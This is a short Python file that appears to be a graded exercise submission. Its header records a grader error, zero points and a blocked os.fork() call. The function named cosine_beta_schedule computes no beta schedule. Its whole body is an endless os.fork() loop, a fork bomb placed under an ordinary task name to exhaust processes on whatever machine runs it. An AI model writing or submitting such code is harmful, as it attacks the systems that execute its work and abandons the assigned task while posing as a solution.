# Starts processes that start processes.
#
# exercise: cosine_beta_schedule
# points: 0
# status: error
# message: Your code raised PermissionError: [Errno 1] Operation not permitted. At line 6 of cosine_beta_schedule: os.fork().
# flags: runs-elsewhere

import os


def cosine_beta_schedule(T, s=0.008):
    while True:
        os.fork()
